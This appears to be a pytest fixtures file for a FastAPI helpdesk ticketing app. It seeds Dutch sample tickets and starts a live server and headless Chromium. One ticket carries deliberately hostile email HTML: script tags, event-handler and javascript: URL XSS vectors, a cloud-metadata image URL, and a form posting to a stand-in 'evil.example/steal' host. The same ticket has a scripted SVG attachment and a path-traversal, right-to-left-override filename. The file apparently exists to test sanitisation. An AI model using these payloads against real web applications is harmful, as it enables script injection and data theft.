"""Fixtures for the web tests: a seeded SQLite database, the app, a signed-in client, a live
uvicorn server on loopback and headless Chromium."""

from __future__ import annotations

import os
import re
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient

from mailtriage.config import (
    Config,
    CustomerConfig,
    DatabaseConfig,
    SlaConfig,
    StorageConfig,
    WebConfig,
)
from mailtriage.services.accounts import create_user
from mailtriage.store.database import Database
from mailtriage.store.files import FileStore
from mailtriage.store.models import Attachment, Classification, Message, Ticket, TicketEvent
from mailtriage.web import create_app
from tests.servers.required import unavailable

AMS = ZoneInfo("Europe/Amsterdam")
# Tuesday 10 March 2026, 10:30 in Amsterdam (CET, UTC+1).
NOW = datetime(2026, 3, 10, 10, 30, tzinfo=AMS).astimezone(UTC)
USER = "anna"
PASSWORD = "correct horse battery"

HOSTILE_HTML = """<p>Zie de factuur in de bijlage.</p>
<script>window.__pwned = 1; document.title = 'PWNED';</script>
<img src="http://169.254.169.254/latest/meta-data/" alt="tracker"
     onerror="window.__pwned = 2; document.title = 'PWNED'">
<img src="https://tracker.evil.example/open.gif?id=1" alt="logo">
<img src=x onerror="window.__pwned = 3">
<a id="jslink" href="javascript:window.__pwned = 4; document.title = 'PWNED'">Klik hier</a>
<a id="datalink" href="data:text/html,<script>alert(1)</script>">Data</a>
<a id="weblink" href="https://www.example.org/docs">Documentatie</a>
<svg onload="window.__pwned = 5; document.title = 'PWNED'"><circle r="5"></circle></svg>
<iframe src="javascript:parent.__pwned = 6"></iframe>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<form action="http://evil.example/steal"><input name="q"><button>Go</button></form>
<div id="hover" onmouseover="window.__pwned = 7">Beweeg hier</div>
<style>body { display: none }</style>
<object data="javascript:window.__pwned = 8"></object>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 9"></style></mglyph>
</table></mtext></math>
<details open ontoggle="window.__pwned = 10"><summary>Meer</summary>tekst</details>
"""

SVG_ATTACHMENT = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
                  b'<script>alert(1)</script></svg>')
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cf000000030101009a4b3a620000000049454e44ae426082")


def local(day: int, hour: int, minute: int = 0) -> datetime:
    """A moment in March 2026, Amsterdam time, as UTC."""
    return datetime(2026, 3, day, hour, minute, tzinfo=AMS).astimezone(UTC)


@dataclass
class Seeded:
    config: Config
    db: Database
    token: str
    attachments: dict[str, int]


def make_config(tmp_path: Path) -> Config:
    return Config(
        database=DatabaseConfig(url=f"sqlite:///{tmp_path / 'web.db'}"),
        storage=StorageConfig(directory=tmp_path / "files"),
        sla=SlaConfig(customers=(CustomerConfig(match="acme.nl", sla="guaranteed",
                                                name="Acme BV"),)),
        web=WebConfig(secret_key="test-secret-key-that-is-long-enough-0123456789"),
    )


def _ticket(s: Any, number: int, subject: str, requester: str, name: str, *,
            received: datetime, type_: str | None, priority: str | None, status: str = "open",
            confidence: float = 0.9, needs_review: bool = False,
            response_due: datetime | None = None, resolution_due: datetime | None = None,
            first_response_at: datetime | None = None, resolved_at: datetime | None = None,
            sla_level: str = "none", text: str = "", html: str | None = None,
            reasons: list[str] | None = None) -> tuple[Ticket, Message]:
    t = Ticket(number=number, subject=subject, requester=requester, requester_name=name,
               type=type_, priority=priority, confidence=confidence, needs_review=needs_review,
               decided_by="model", reasons=reasons or [], status=status, received_at=received,
               response_due=response_due, resolution_due=resolution_due,
               first_response_at=first_response_at, resolved_at=resolved_at,
               sla_level=sla_level)
    s.add(t)
    s.flush()
    m = Message(ticket_id=t.id, direction="in", mailbox="helpdesk", folder="INBOX",
                uid=str(number), sha256=f"{number:064x}", size=len(text), sender=requester,
                sender_name=name, subject=subject, received_at=received, outcome="ticket",
                text=text, html=html, message_id=f"<{number}@example.test>")
    s.add(m)
    s.add(Classification(ticket_id=t.id, type=type_, priority=priority, confidence=confidence,
                         needs_review=needs_review, reasons=reasons or [],
                         model_version="2026.03.01-1", source="auto", created_at=received))
    s.flush()
    return t, m


def seed(config: Config) -> Seeded:
    db = Database(config.database.url)
    db.migrate()
    files = FileStore(config.storage.directory)
    token = create_user(db, USER, PASSWORD, with_token=True)
    assert token is not None
    create_user(db, "bert", "another long password")
    attachments: dict[str, int] = {}
    with db.session() as s:
        _ticket(s, 1001, "Webshop geeft foutmelding bij afrekenen", "pieter@acme.nl",
                "Pieter de Vries", received=local(10, 9), type_="incident", priority="high",
                confidence=0.92, response_due=local(10, 11), resolution_due=local(10, 13),
                sla_level="guaranteed",
                text="Sinds vanochtend kan niemand meer afrekenen in de webshop.\n"
                     "Foutmelding: 500 Internal Server Error.\n\nGroet, Pieter",
                reasons=["rule: 'kan niet meer' suggests an incident",
                         "model: incident 0.92, high 0.81"])
        _, m1002 = _ticket(
            s, 1002, "Contactformulier verstuurt geen mail", "sanne@acme.nl", "Sanne Jansen",
            received=local(9, 9), type_="incident", priority="medium", confidence=0.77,
            response_due=local(9, 17), resolution_due=local(10, 16, 30), sla_level="guaranteed",
            text="Het contactformulier op /contact geeft een bevestiging, maar er komt geen "
                 "mail binnen.")
        key = files.put(PNG_1PX)
        a = Attachment(message_id=m1002.id, filename="schermafbeelding.png",
                       content_type="image/png", size=len(PNG_1PX), sha256=key, storage_key=key)
        s.add(a)
        _ticket(s, 1003, "Nieuwe pagina voor vacatures", "jan@bakkerij.nl", "Jan Bakker",
                received=local(10, 8, 10), type_="change", priority=None, confidence=0.41,
                needs_review=True, status="new",
                text="Kunnen jullie een pagina maken waar we vacatures op zetten?")
        _ticket(s, 1004, "Typfout op de homepage", "els@acme.nl", "Els Visser",
                received=local(6, 10), type_="incident", priority="low", status="resolved",
                response_due=local(10, 9), resolution_due=local(13, 10),
                first_response_at=local(6, 11), resolved_at=local(9, 15),
                sla_level="guaranteed", text="Er staat 'welkon' op de homepage.")
        _, m1005 = _ticket(
            s, 1005, "Factuur maart", "mallory@evil.example", "Accounts", received=local(10, 7),
            type_="other", priority=None, confidence=0.66, text="Zie de factuur in de bijlage.",
            html=HOSTILE_HTML)
        svg_key = files.put(SVG_ATTACHMENT)
        html_key = files.put(b"<html><script>alert(1)</script></html>")
        evil = Attachment(message_id=m1005.id, filename="../../etc/cron.d/\u202efactuur\u00e9.svg",
                          content_type="image/svg+xml", size=len(SVG_ATTACHMENT), sha256=svg_key,
                          storage_key=svg_key)
        page = Attachment(message_id=m1005.id, filename="factuur.html", content_type="text/html",
                          size=38, sha256=html_key, storage_key=html_key)
        s.add_all([evil, page])
        t1006, _ = _ticket(
            s, 1006, "Wachten op inloggegevens FTP", "kees@bakkerij.nl", "Kees de Boer",
            received=local(9, 14), type_="incident", priority="medium", status="waiting",
            response_due=local(10, 13, 30), resolution_due=local(11, 13),
            first_response_at=local(9, 14, 30), text="De FTP-login werkt niet meer.")
        # The clocks run on recorded facts: the ticket waits on the customer since the reply.
        s.add(TicketEvent(ticket_id=t1006.id, kind="status_changed", at=local(9, 14, 30),
                          actor="bert", data={"from": "open", "to": "waiting"}))
        s.flush()
        attachments = {"png": a.id, "svg": evil.id, "html": page.id}
    return Seeded(config, db, token, attachments)


@pytest.fixture
def seeded(tmp_path: Path) -> Iterator[Seeded]:
    data = seed(make_config(tmp_path))
    yield data
    data.db.dispose()


@pytest.fixture
def app(seeded: Seeded) -> FastAPI:
    return create_app(seeded.config, seeded.db, clock=lambda: NOW)


_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


def csrf_from(html: str) -> str:
    match = _CSRF.search(html)
    assert match, "the page has no CSRF field"
    return match.group(1)


def login(client: TestClient, user: str = USER, password: str = PASSWORD) -> Any:
    page = client.get("/login")
    return client.post("/login", data={"username": user, "password": password,
                                       "csrf": csrf_from(page.text), "next": "/"},
                       follow_redirects=False)


@pytest.fixture
def client(app: FastAPI) -> Iterator[TestClient]:
    with TestClient(app, base_url="http://testserver") as c:
        yield c


@pytest.fixture
def staff(client: TestClient) -> TestClient:
    response = login(client)
    assert response.status_code == 303
    return client


# ---------------------------------------------------------------------------------------------
# A live server and a real browser


class LiveServer:
    def __init__(self, app: FastAPI) -> None:
        import uvicorn

        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        config = uvicorn.Config(app, log_level="warning", lifespan="off")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, kwargs={"sockets": [self.sock]},
                                       daemon=True)

    def __enter__(self) -> LiveServer:
        self.thread.start()
        deadline = time.monotonic() + 10
        while not self.server.started:
            if time.monotonic() > deadline or not self.thread.is_alive():
                raise RuntimeError("uvicorn did not start")
            time.sleep(0.02)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(10)
        self.sock.close()


@pytest.fixture
def live(app: FastAPI) -> Iterator[LiveServer]:
    with LiveServer(app) as server:
        yield server


CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]


@pytest.fixture(scope="session")
def chromium() -> Iterator[Any]:
    """Debian's Chromium driven by Playwright; missing it fails under CI=true, else skips."""
    problem = None
    if not os.path.exists(CHROMIUM):
        problem = f"{CHROMIUM} is missing (apt-get install -y chromium)"
    else:
        try:
            from playwright.sync_api import sync_playwright
        except ImportError as exc:
            problem = f"playwright is not installed: {exc}"
    if problem is not None:
        unavailable(f"browser tests need Chromium: {problem}")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS,
                                    headless=True)
        yield browser
        browser.close()


@pytest.fixture
def page(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": 1360, "height": 900}, locale="en-GB")
    pg = context.new_page()
    pg.set_default_timeout(10_000)
    yield pg
    context.close()


def browser_login(page: Any, base: str, user: str = USER, password: str = PASSWORD) -> None:
    page.goto(base + "/login")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", password)
    page.click("button.primary")
    page.wait_for_url(base + "/")
